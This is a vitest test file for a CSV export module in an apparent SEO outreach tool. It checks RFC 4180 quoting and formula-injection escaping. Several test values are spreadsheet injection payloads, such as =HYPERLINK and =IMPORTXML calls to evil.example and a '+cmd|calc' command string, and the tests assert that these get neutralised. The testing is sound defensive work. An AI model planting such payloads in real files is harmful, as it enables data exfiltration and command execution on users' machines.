import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvSafeCell, PROSPECT_CSV_COLUMNS, prospectCsvChunks, prospectsToCsv } from '@/utils/prospects/csv-export';
import type { Prospect } from '@/utils/prospects/types';
import { bareProspect, resourcePageWithHistory, unlinkedMentionOnIdnDomain } from '../../fixtures/csv/prospects/sample-prospects';

/** The file as a spreadsheet would read it: header and rows, by column name. */
function readBack(csv: string): Record<string, string>[] {
  const body = csv.startsWith('\uFEFF') ? csv.slice(1) : csv;
  const parsed = Papa.parse<Record<string, string>>(body, { header: true, skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

async function* batchesOf(...batches: Prospect[][]): AsyncGenerator<Prospect[]> {
  for (const batch of batches) yield batch;
}

async function collect(chunks: AsyncIterable<string>): Promise<string[]> {
  const out: string[] = [];
  for await (const chunk of chunks) out.push(chunk);
  return out;
}

describe('csvSafeCell: formula injection and RFC 4180 quoting', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/","x")', `"'=HYPERLINK(""http://evil.example/"",""x"")"`],
    ['+1 555 0100', "'+1 555 0100"],
    ['-5', "'-5"],
    ['@user', "'@user"],
    ['\tx', `"'\tx"`],
    ['\rx', `"'\rx"`],
    ["'quoted", "''quoted"],
  ])('shows %j as text in a spreadsheet', (value, cell) => {
    expect(csvSafeCell(value)).toBe(cell);
  });

  it.each([
    ['Smith, Jones & Co.', '"Smith, Jones & Co."'],
    ['She said "hello"', '"She said ""hello"""'],
    ['line one\nline two', '"line one\nline two"'],
    ['a\r\nb', '"a\r\nb"'],
    // A spreadsheet in a locale whose list separator is ";" would split here and run the "=…" after it.
    ['Best tools;=HYPERLINK("http://evil.example/";"x");x', `"Best tools;=HYPERLINK(""http://evil.example/"";""x"");x"`],
    ['seo; outreach', '"seo; outreach"'],
    ['a\tb', '"a\tb"'],
  ])('quotes %j because of its comma, quote, line break, semicolon or tab', (value, cell) => {
    expect(csvSafeCell(value)).toBe(cell);
  });

  it('leaves ordinary text, a minus inside text, emoji and RTL text as they are', () => {
    for (const value of ['Best garden tools', 'top-10 tools', '🔗 links', 'مرحبا بالعالم', '2024-05-01T09:30:00.000Z', '']) {
      expect(csvSafeCell(value)).toBe(value);
    }
  });
});

describe('prospectsToCsv', () => {
  const csv = prospectsToCsv([resourcePageWithHistory, bareProspect, unlinkedMentionOnIdnDomain]);

  it('starts with a UTF-8 BOM and the header, and ends every row with CRLF', () => {
    expect(csv.startsWith(`\uFEFF${PROSPECT_CSV_COLUMNS.join(',')}\r\n`)).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    // Outside quoted cells every line break is CRLF: strip the quoted cells and look.
    const unquoted = csv.replace(/"(?:[^"]|"")*"/g, '');
    expect(unquoted.match(/\r\n/g)).toHaveLength(4);
    expect(unquoted.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
  });

  it('has every field, with snapshots last', () => {
    expect(PROSPECT_CSV_COLUMNS).toEqual([
      'url', 'domain', 'title', 'page type', 'verdict', 'score', 'status', 'tags', 'notes', 'reasons', 'emails',
      'contact pages', 'social profiles', 'author', 'links to my sites', 'links to competitors', 'first seen',
      'last checked', 'updated', 'snapshots',
    ]);
  });

  it('writes one readable row per prospect', () => {
    const rows = readBack(csv);
    expect(rows).toHaveLength(3);
    const row = rows[0];
    expect(row).toMatchObject({
      url: 'https://gardenista.com/posts/best-garden-tools',
      domain: 'gardenista.com',
      title: 'The 25 best garden tools, tested',
      'page type': 'resource',
      verdict: 'strong',
      score: '82',
      status: 'contacted',
      tags: 'tools; q2 outreach',
      reasons: 'Resource page linking out to 25 sites | Relevant to 2 of 3 topics | Links to a competitor',
      emails: 'jane@gardenista.com; editors@gardenista.com',
      'contact pages': 'https://gardenista.com/contact',
      'social profiles': 'https://x.com/gardenista; https://www.instagram.com/gardenista/',
      author: 'Jane Doe',
      'first seen': '2024-03-02T10:15:00.000Z',
      'last checked': '2024-05-20T08:00:00.000Z',
      updated: '2024-05-21T12:30:45.123Z',
    });
  });

  it('keeps a multi-line note in one cell, its newline intact', () => {
    expect(readBack(csv)[0]?.notes).toBe('Emailed Jane on 3 May.\nShe prefers short pitches.');
  });

  it('describes the links of the last visit only, not older ones', () => {
    const row = readBack(csv)[0];
    expect(row?.['links to my sites']).toBe('shears → https://mygardenshop.com/shears (sidebar, nofollow, does not count)');
    expect(row?.['links to my sites']).not.toContain('pruning shears that last');
    expect(row?.['links to competitors']).toBe('Rival Gardens → https://rivalgardens.com/ (content, follow, counts)');
  });

  it('holds every snapshot, oldest first, as JSON in the last column', () => {
    const rows = readBack(csv);
    expect(JSON.parse(rows[0]?.snapshots ?? '')).toEqual(resourcePageWithHistory.snapshots);
    expect(rows[1]?.snapshots).toBe('[]');
  });

  it('leaves empty fields empty: no author, no contacts, no visit', () => {
    const row = readBack(csv)[1];
    expect(row).toMatchObject({ title: '', notes: '', tags: '', reasons: '', emails: '', author: '', 'links to my sites': '' });
  });

  it('writes a score of 0 as 0', () => {
    expect(readBack(csv)[2]?.score).toBe('0');
  });

  it('guards formulas in every text field, links included', () => {
    const evil: Prospect = {
      ...bareProspect,
      title: '=IMPORTXML("http://evil.example","//a")',
      tags: ['@admin'],
      notes: '+cmd|calc',
      contacts: { ...bareProspect.contacts, author: '-2+3' },
      snapshots: [
        {
          checkedAt: '2024-06-01T00:00:00.000Z',
          toMySites: [{ href: 'https://me.example/', domain: 'me.example', text: '=1+1', rel: [], placement: 'content', counts: true }],
          toCompetitors: [],
        },
      ],
    };
    const row = readBack(prospectsToCsv([evil]))[0];
    expect(row?.title).toBe(`'=IMPORTXML("http://evil.example","//a")`);
    expect(row?.tags).toBe("'@admin");
    expect(row?.notes).toBe("'+cmd|calc");
    expect(row?.author).toBe("'-2+3");
    expect(row?.['links to my sites']).toBe("'=1+1 → https://me.example/ (content, follow, counts)");
  });

  it('escapes a separator inside a tag or reason so the list splits back the same', () => {
    const p: Prospect = { ...bareProspect, tags: ['seo; local', 'back\\slash'], reasons: ['a | b'] };
    const row = readBack(prospectsToCsv([p]))[0];
    expect(row?.tags).toBe('seo\\; local; back\\\\slash');
    expect(row?.reasons).toBe('a \\| b');
  });
});

describe('prospectCsvChunks', () => {
  it('yields the BOM and header first, then one chunk per batch, adding up to the whole file', async () => {
    const chunks = await collect(prospectCsvChunks(batchesOf([resourcePageWithHistory, bareProspect], [], [unlinkedMentionOnIdnDomain])));
    expect(chunks[0]).toBe(`\uFEFF${PROSPECT_CSV_COLUMNS.join(',')}\r\n`);
    expect(chunks).toHaveLength(3);
    expect(chunks.join('')).toBe(prospectsToCsv([resourcePageWithHistory, bareProspect, unlinkedMentionOnIdnDomain]));
  });

  it('gives a header-only file when there are no prospects', async () => {
    const chunks = await collect(prospectCsvChunks(batchesOf()));
    expect(chunks.join('')).toBe(`\uFEFF${PROSPECT_CSV_COLUMNS.join(',')}\r\n`);
  });
});
